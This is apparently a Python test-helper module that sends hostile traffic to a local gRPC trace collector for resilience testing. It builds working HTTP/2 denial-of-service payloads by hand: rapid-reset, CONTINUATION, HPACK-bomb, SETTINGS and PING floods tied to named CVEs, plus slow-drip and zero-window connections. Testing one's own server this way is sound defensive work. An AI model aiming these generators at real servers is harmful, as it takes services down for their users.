"""Senders that mean no good, over HTTP/1.1 and HTTP/2, in bytes of their own.

Nothing here is copied per connection: what a thousand of them send is one `bytes`.
"""

import asyncio
import contextlib
import socket
import struct
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager

_LOOPBACK = "127.0.0.1"
_TRACES = b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"


@asynccontextmanager
async def holding(port: int, count: int, data: bytes) -> AsyncIterator[list[socket.socket]]:
    """`count` connections that send `data` as fast as it is taken, and then keep still.

    They never read. All end with the context.
    """
    loop = asyncio.get_running_loop()
    senders: list[socket.socket] = []
    tasks: list[asyncio.Task[None]] = []
    try:
        for _ in range(count):
            sender = socket.socket()
            senders.append(sender)
            sender.settimeout(0)
            await loop.sock_connect(sender, (_LOOPBACK, port))
            tasks.append(asyncio.create_task(_send(sender, data)))
        yield senders
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        for sender in senders:
            sender.close()


async def _send(sender: socket.socket, data: bytes) -> None:
    # Whoever is attacked may hang up: that is the point.
    with contextlib.suppress(ConnectionError):
        await asyncio.get_running_loop().sock_sendall(sender, data)


async def dripping(
    port: int, count: int, start: bytes, every_s: float, seconds: float, drop: bytes = b"\0"
) -> None:
    """`count` connections that send `start` and then a `drop` every so often, for a while."""
    async with holding(port, count, start) as senders:
        for _ in range(int(seconds / every_s)):
            await asyncio.sleep(every_s)
            for sender in senders:
                with contextlib.suppress(OSError):
                    sender.send(drop)


async def flood(port: int, pieces: Iterator[bytes]) -> bytes:
    """Send `pieces` on one connection, reading what comes, until the end or until it is closed;
    returns the last that came."""
    reader, writer = await asyncio.open_connection(_LOOPBACK, port)
    last = b""

    async def read() -> None:
        nonlocal last
        while piece := await reader.read(1 << 16):
            last = piece

    reading = asyncio.create_task(read())
    try:
        for piece in pieces:
            if reading.done() or writer.is_closing():
                break
            writer.write(piece)
            await writer.drain()
    except ConnectionError:
        pass
    finally:
        writer.transport.abort()
        await asyncio.gather(reading, return_exceptions=True)
    return last


async def requests(port: int, one: bytes, count: int, *, ahead: int = 100) -> dict[int, int]:
    """Send the request `one` `count` times on one connection, `ahead` at a time: how often which
    status came back."""
    reader, writer = await asyncio.open_connection(_LOOPBACK, port)
    statuses: dict[int, int] = {}
    try:
        for sent in range(0, count, ahead):
            batch = min(ahead, count - sent)
            writer.write(one * batch)
            for _ in range(batch):
                head = await reader.readuntil(b"\r\n\r\n")
                status = int(head[9:12])
                statuses[status] = statuses.get(status, 0) + 1
                length = head.lower().partition(b"content-length: ")[2].partition(b"\r")[0]
                await reader.readexactly(int(length or 0))
    finally:
        writer.transport.abort()
    return statuses


async def calls(port: int, message: bytes, count: int, *, ahead: int = 100) -> dict[str, int]:
    """Make a call `count` times on one connection, `ahead` at a time: how many were answered with
    a message ("OK"), and how many without one ("refused")."""
    reader, writer = await asyncio.open_connection(_LOOPBACK, port)
    answers = {"OK": 0, "refused": 0}
    body = b"\0" + struct.pack(">I", len(message)) + message
    try:
        # For all the answers.
        writer.write(HELLO + frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - (1 << 16))))
        for sent in range(0, count, ahead):
            streams = range(2 * sent + 1, 2 * min(sent + ahead, count), 2)
            writer.write(
                b"".join(
                    frame(_HEADERS, _END_HEADERS, stream, CALL)
                    + frame(_DATA, _END_STREAM, stream, body)
                    for stream in streams
                )
            )
            left, with_message = len(streams), 0
            while left:
                head = await reader.readexactly(9)
                await reader.readexactly(int.from_bytes(head[:3], "big"))
                with_message += head[3] == _DATA
                left -= head[3] == _HEADERS and bool(head[4] & _END_STREAM)
            answers["OK"] += with_message
            answers["refused"] += len(streams) - with_message
    finally:
        writer.transport.abort()
    return answers


# ---- HTTP/2: RFC 9113, 4.1, and HPACK (RFC 7541) by hand ---------------------------------------

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)
_INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(data: bytes) -> bytes:
    return bytes((len(data),)) + data


# A good head: :method POST and :scheme http from the static table, the rest as literals.
CALL = (
    b"\x83\x86"
    + b"\x04" + _text(_TRACES)
    + b"\x01" + _text(b"localhost")
    + b"\x00" + _text(b"content-type") + _text(b"application/grpc")
    + b"\x00" + _text(b"te") + _text(b"trailers")
)  # fmt: skip
HELLO = PREFACE + frame(_SETTINGS, 0, 0)


def rapid_reset(streams: int) -> Iterator[bytes]:
    """CVE-2023-44487: streams opened and reset, as fast as they can be written."""
    yield HELLO
    for first in range(1, 2 * streams, 200):
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, stream, CALL) + frame(_RST_STREAM, 0, stream, _CANCEL)
            for stream in range(first, first + 200, 2)
        )


def continuation_flood(frames: int) -> Iterator[bytes]:
    """CVE-2024-27316 and its like: a head that never ends."""
    yield HELLO + frame(_HEADERS, 0, 1, CALL)
    piece = frame(_CONTINUATION, 0, 1, b"\x00" + _text(b"a" * 100) + _text(b"b" * 100)) * 50
    for _ in range(frames // 50):
        yield piece


def header_bomb(streams: int) -> Iterator[bytes]:
    """CVE-2016-6581: one entry of 4 KB in the table, and thousands of one-byte references to it."""
    entry = b"\x40" + _text(b"bomb") + b"\x7f\xa1\x1e" + b"x" * 4000
    yield HELLO + frame(_HEADERS, _END_HEADERS, 1, CALL + entry)
    for stream in range(3, 2 * streams + 1, 2):
        yield frame(_HEADERS, _END_HEADERS, stream, CALL + b"\xbe" * 16_000)


def open_heads(fields: int) -> bytes:
    """A hundred calls without data, each with so many small fields, of a byte each in HPACK."""
    entry = b"\x40" + _text(b"x-ab") + b"\x02cd"
    # Four are pseudo fields, and two gRPC's.
    first = CALL + entry + b"\xbe" * (fields - 7)
    further = CALL + b"\xbe" * (fields - 6)
    return HELLO + b"".join(
        frame(_HEADERS, _END_HEADERS, stream, first if stream == 1 else further)
        for stream in range(1, 200, 2)
    )


def settings_flood(frames: int) -> Iterator[bytes]:
    """CVE-2019-9515: each wants an acknowledgement."""
    yield HELLO
    for _ in range(frames // 100):
        yield frame(_SETTINGS, 0, 0) * 100


def ping_flood(frames: int) -> Iterator[bytes]:
    """CVE-2019-9512: each wants an answer."""
    yield HELLO
    for _ in range(frames // 100):
        yield frame(_PING, 0, 0, bytes(8)) * 100


def zero_window(calls: int, message: bytes) -> bytes:
    """Calls whose answers have no room: a window of 0, never opened."""
    settings = frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0))
    body = b"\0" + struct.pack(">I", len(message)) + message
    return (
        PREFACE
        + settings
        + b"".join(
            frame(_HEADERS, _END_HEADERS, stream, CALL) + frame(_DATA, _END_STREAM, stream, body)
            for stream in range(1, 2 * calls, 2)
        )
    )


def open_call(message_bytes: int) -> bytes:
    """A call that announces a message of this size, and has not sent it."""
    prefix = b"\0" + struct.pack(">I", message_bytes)
    return frame(_HEADERS, _END_HEADERS, 1, CALL) + frame(_DATA, 0, 1, prefix)


def packed_call(packed: bytes, stream: int = 1) -> bytes:
    """A call with a gzip message; as much of it as a sender may send unasked, and the rest too."""
    head = CALL + b"\x00" + _text(b"grpc-encoding") + _text(b"gzip")
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    pieces = [message[at : at + 16384] for at in range(0, len(message), 16384)]
    return frame(_HEADERS, _END_HEADERS, stream, head) + b"".join(
        frame(_DATA, _END_STREAM if piece is pieces[-1] else 0, stream, piece) for piece in pieces
    )


def packed_calls(packed: bytes, count: int) -> bytes:
    """So many of them on one connection, as fast as they are taken."""
    return b"".join(packed_call(packed, stream) for stream in range(1, 2 * count, 2))
